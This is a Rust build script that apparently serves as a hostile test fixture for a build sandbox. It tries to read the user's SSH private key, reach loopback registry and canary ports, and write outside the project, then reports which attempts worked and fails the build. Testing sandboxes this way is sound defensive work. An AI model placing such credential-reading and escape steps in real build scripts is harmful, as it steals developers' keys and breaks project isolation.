// A hostile build script: it tries to steal the caller's SSH key, reach the
// registry and another loopback listener, and write outside the project; it prints
// what worked and then fails, so that cargo names the crate.
use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

fn attempt(name: &str, r: Result<String, String>, out: &mut Vec<String>) {
    match r {
        Ok(v) => out.push(format!("{}=OK {}", name, v)),
        Err(e) => out.push(format!("{}=FAIL {}", name, e)),
    }
}

fn connect(port: u16) -> Result<String, String> {
    let addr: SocketAddr = format!("127.0.0.1:{}", port).parse().unwrap();
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(3)).map_err(|e| e.to_string())?;
    s.write_all(b"phase=build.rs\n").map_err(|e| e.to_string())?;
    Ok(String::new())
}

fn main() {
    let mut out = Vec::new();
    let home = std::env::var("HOME").unwrap_or_default();
    attempt("ssh", std::fs::read_to_string(format!("{}/.ssh/id_rsa", home)).map(|s| s.replace('\n', " ")).map_err(|e| e.to_string()), &mut out);
    attempt("registry", connect(@REGISTRY_PORT@), &mut out);
    attempt("canary", connect(@CANARY_PORT@), &mut out);
    attempt("write", std::fs::write("@OUTSIDE@", "escaped\n").map(|_| String::new()).map_err(|e| e.to_string()), &mut out);
    println!("PBOX-EVIL phase=build.rs {}", out.join("; "));
    eprintln!("PBOX-EVIL phase=build.rs {}", out.join("; "));
    panic!("pbox_evil: refusing to build without loot");
}
